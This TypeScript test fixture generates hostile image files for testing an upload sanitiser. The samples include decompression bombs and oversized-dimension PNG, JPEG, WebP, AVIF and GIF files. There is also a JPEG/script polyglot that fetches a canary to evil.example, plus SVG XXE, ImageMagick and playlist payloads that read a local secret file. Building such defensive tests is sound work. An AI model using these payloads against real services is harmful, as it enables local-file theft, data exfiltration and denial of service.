import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Text that no hostile file may reveal: it is in scripts, in comments, and in a file outside the sandbox. */
export const CANARY = 'canary-7d1f4c-of-the-walls'

/** A hostile file and the allowed result: refused, or rewritten without its hostile part. */
export type Bomb = { name: string; bytes: () => Promise<Buffer> | Buffer; ends: 'refused' | 'clean' | 'either' }

function pngChunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  check.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, check])
}

/** A grey PNG that declares this size, whatever is inside. */
function png(width: number, height: number, data: Buffer, more: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  return Buffer.concat([
    Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'),
    pngChunk('IHDR', header),
    ...more,
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

const zeros = (bytes: number): Buffer => deflateSync(Buffer.alloc(bytes), { level: 9 })

const flat = (width = 64, height = 64) => sharp({ create: { width, height, channels: 3, background: '#884422' } })

function patched(bytes: Buffer, after: string, at: number, change: (view: Buffer) => void): Buffer {
  const found = bytes.indexOf(after, 0, 'latin1')
  if (found < 0) throw new Error(`no ${after} in it`)
  const copy = Buffer.from(bytes)
  change(copy.subarray(found + at))
  return copy
}

async function jpegOfSize(width: number, height: number): Promise<Buffer> {
  return patched(await flat().jpeg().toBuffer(), '\u00ff\u00c0', 5, (size) => {
    size.writeUInt16BE(height, 0)
    size.writeUInt16BE(width, 2)
  })
}

async function scriptInJpeg(): Promise<Buffer> {
  const jpeg = await flat().jpeg().toBuffer()
  const script = Buffer.from(`*/=1;/*<script>fetch('//evil.example/${CANARY}')</script>`)
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), script])
  comment.writeUInt16BE(script.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), Buffer.from(`<script>${CANARY}</script>`)])
}

/** A WebP of so many frames, each the same small picture on a canvas of this size. */
async function manyFrames(edge: number, frames: number): Promise<Buffer> {
  const still = await flat(edge, edge).webp({ lossless: true }).toBuffer()
  const chunk = (type: string, content: Buffer) => {
    const head = Buffer.alloc(8)
    head.write(type, 0, 'latin1')
    head.writeUInt32LE(content.length, 4)
    return Buffer.concat([head, content, Buffer.alloc(content.length % 2)])
  }
  const canvas = Buffer.alloc(10)
  canvas[0] = 2
  canvas.writeUIntLE(edge - 1, 4, 3)
  canvas.writeUIntLE(edge - 1, 7, 3)
  const place = Buffer.alloc(16)
  place.writeUIntLE(edge - 1, 6, 3)
  place.writeUIntLE(edge - 1, 9, 3)
  place.writeUIntLE(10, 12, 3)
  const frame = chunk('ANMF', Buffer.concat([place, still.subarray(12)]))
  const body = [chunk('VP8X', canvas), chunk('ANIM', Buffer.alloc(6)), ...Array.from({ length: frames }, () => frame)]
  return chunk('RIFF', Buffer.concat([Buffer.from('WEBP'), ...body]))
}

function gifOfManyFrames(): Buffer {
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])
  return Buffer.concat([
    Buffer.from('GIF89a'),
    screen,
    ...Array.from({ length: 50_000 }, () => frame),
    Buffer.from(';'),
  ])
}

/** `secret` is the path of a file outside the sandbox that contains the canary. */
export function pictureBombs(secret: string): Bomb[] {
  const svg = (inside: string) =>
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secret}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">${inside}</svg>`
  const profile = Buffer.concat([Buffer.from('icc\0\0', 'latin1'), zeros(120_000_000)])
  const message = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zeros(120_000_000)])
  return [
    { name: 'a PNG that declares 65,535 by 65,535', bytes: () => png(65_535, 65_535, zeros(100)), ends: 'refused' },
    {
      name: 'a PNG of the largest edges there are',
      bytes: () => png(2 ** 31 - 1, 2 ** 31 - 1, zeros(9)),
      ends: 'refused',
    },
    {
      name: 'a PNG of 400 megapixels of nothing',
      bytes: () => png(20_000, 20_000, zeros(20_001 * 20_000)),
      ends: 'refused',
    },
    { name: 'a PNG just within 50 megapixels', bytes: () => png(7_000, 7_000, zeros(7_001 * 7_000)), ends: 'clean' },
    {
      name: 'a small PNG with 120 MB behind its last line',
      bytes: () => png(64, 64, zeros(120_000_000)),
      ends: 'either',
    },
    {
      name: 'a PNG that has fewer lines than it declares',
      bytes: () => png(4_000, 4_000, zeros(100)),
      ends: 'refused',
    },
    {
      name: 'a PNG whose profile unpacks to 120 MB',
      bytes: () => png(64, 64, zeros(65 * 64), [pngChunk('iCCP', profile)]),
      ends: 'either',
    },
    {
      name: 'a PNG whose comment unpacks to 120 MB',
      bytes: () => png(64, 64, zeros(65 * 64), [pngChunk('zTXt', message)]),
      ends: 'either',
    },
    {
      name: 'a JPEG that is cut off',
      bytes: async () => (await flat(900, 900).jpeg().toBuffer()).subarray(0, 900),
      ends: 'refused',
    },
    { name: 'a JPEG that declares 65,500 by 65,500', bytes: () => jpegOfSize(65_500, 65_500), ends: 'refused' },
    {
      name: 'a JPEG that declares 7,000 by 7,000 and is small',
      bytes: () => jpegOfSize(7_000, 7_000),
      ends: 'refused',
    },
    { name: 'a JPEG that is a script too', bytes: scriptInJpeg, ends: 'clean' },
    {
      name: 'a WebP that declares 16,383 by 16,383',
      bytes: async () =>
        patched(await flat().webp({ lossless: true }).toBuffer(), 'VP8L', 9, (size) =>
          size.writeUInt32LE(0x0fff_fffe, 0),
        ),
      ends: 'refused',
    },
    { name: 'a WebP of 300 frames', bytes: () => manyFrames(500, 300), ends: 'either' },
    {
      name: 'an AVIF that declares 60,000 by 60,000',
      bytes: async () =>
        patched(await flat().avif({ effort: 0 }).toBuffer(), 'ispe', 8, (size) => {
          size.writeUInt32BE(60_000, 0)
          size.writeUInt32BE(60_000, 4)
        }),
      ends: 'refused',
    },
    {
      name: 'an AVIF that declares 5,000 by 5,000 and is small',
      bytes: async () =>
        patched(await flat().avif({ effort: 0 }).toBuffer(), 'ispe', 8, (size) => {
          size.writeUInt32BE(5_000, 0)
          size.writeUInt32BE(5_000, 4)
        }),
      ends: 'refused',
    },
    { name: 'a GIF of 50,000 frames', bytes: gifOfManyFrames, ends: 'refused' },
    { name: 'a TIFF', bytes: () => flat().tiff().toBuffer(), ends: 'refused' },
    {
      name: 'an SVG with an entity of a local file',
      bytes: () => Buffer.from(svg('<text>&x;</text>')),
      ends: 'refused',
    },
    {
      name: 'an SVG that shows a local file',
      bytes: () => Buffer.from(svg(`<image xlink:href="file://${secret}" width="9" height="9"/>`)),
      ends: 'refused',
    },
    {
      name: 'an SVG behind the head of a WebP',
      bytes: () => Buffer.from(`RIFF\u0001\u0001\u0001\u0001WEBP${svg('<text>&x;</text>')}`, 'latin1'),
      ends: 'refused',
    },
    {
      name: 'an ImageMagick script',
      bytes: () => Buffer.from(`push graphic-context\nimage over 0,0 0,0 'label:@${secret}'\npop graphic-context\n`),
      ends: 'refused',
    },
    {
      name: 'a playlist of a local file',
      bytes: () => Buffer.from(`#EXTM3U\n#EXTINF:1,\nfile://${secret}\n`),
      ends: 'refused',
    },
    {
      name: 'a PDF',
      bytes: () => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>'),
      ends: 'refused',
    },
    {
      name: 'nothing but noise behind the head of a JPEG',
      bytes: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200_000, 0x5a)]),
      ends: 'refused',
    },
  ]
}
